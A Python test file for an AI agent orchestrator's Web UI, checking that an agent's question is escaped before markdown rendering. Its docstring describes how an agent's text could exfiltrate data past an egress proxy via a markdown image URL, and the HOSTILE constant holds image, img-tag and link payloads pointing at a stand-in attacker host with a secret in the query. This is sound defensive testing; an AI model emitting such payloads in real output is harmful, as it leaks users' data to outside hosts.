"""The Web UI renders the board's pane as markdown and HTML (in a sandboxed frame: no script,
but images load and links show): an agent's question there was pasted as written, so a
question '![x](https://host/?data)' made the person's browser fetch that address — data the
agent read, carried past the egress proxy — and links or headings read as the leader's own
(a third review, checked with the dev server's Web UI 2.54.1 in Chromium)."""

from __future__ import annotations

import re
from datetime import UTC, datetime, timedelta

from xsky.leader.core import LeaderCore
from xsky.plan.models import Workflow, WorkflowAgent
from xsky.runs import AgentOutcome, RequestPayload, RunInput

T0 = datetime(2026, 12, 1, tzinfo=UTC)
HOSTILE = '![x](https://evil.example/?k=SECRET) <img src="https://evil.example/p.png"> [approve](https://evil.example/)'


def asked(question: str) -> LeaderCore:
    plan = Workflow(name="p", task_id="p", agents=[WorkflowAgent(id="1", name="llm", task="t")])
    core = LeaderCore(RunInput(workflow=plan), "run-1", T0)
    core.dispatch(T0)
    outcome = AgentOutcome(kind="question", request=RequestPayload(question=question))
    core.attempt_succeeded("1", core.tasks["1"], 1, outcome, T0 + timedelta(seconds=1))
    core.attempt_ended("1", 1)
    return core


def test_an_agents_question_is_literal_text_in_the_web_uis_pane() -> None:
    core = asked(HOSTILE)
    (note,) = [n for n in core.views.notices(T0, markdown=True) if "question" in n]
    # every [ ] < > of the agent's words is backslash-escaped: CommonMark shows the character
    assert not re.search(r"(?<!\\)[\[\]<>]", note.split(": ", 1)[1]), note
    assert "evil.example" in note  # shown, as text


def test_elsewhere_the_question_reads_as_the_agent_wrote_it() -> None:
    core = asked(HOSTILE)
    (note,) = [n for n in core.views.notices(T0) if "question" in n]
    assert HOSTILE in note  # `starter.py status` prints the notes literally


def test_a_long_question_is_cut_where_a_word_ends_said_so_and_its_answers_given() -> None:
    # walk8: a call in doubt's question was cut at 160 characters mid-word, with no mark, and
    # the three answers it takes were in the part cut off (status and the Web UI's pane).
    long = "The call may have run: " + "it wrote files and sent mail " * 8 + "(the end)"
    plan = Workflow(name="p", task_id="p", agents=[WorkflowAgent(id="1", name="llm", task="t")])
    core = LeaderCore(RunInput(workflow=plan), "run-1", T0)
    core.dispatch(T0)
    request = RequestPayload(question=long, choices=["again", "skip", "done"])
    outcome = AgentOutcome(kind="question", request=request)
    core.attempt_succeeded("1", core.tasks["1"], 1, outcome, T0 + timedelta(seconds=1))
    core.attempt_ended("1", 1)
    (note,) = [n for n in core.views.notices(T0) if "question" in n]
    assert note.endswith(" … — answers: again, skip, done"), note
    assert (
        note.split(": ", 1)[1].split(" … ")[0].endswith(("wrote", "files", "and", "sent", "mail"))
    )
    assert "(the end)" not in note
    (stored,) = [n for n in core.views.notices(T0, shown=False) if "question" in n]
    assert "answers:" not in stored  # the board a run stores as it ends is as it was
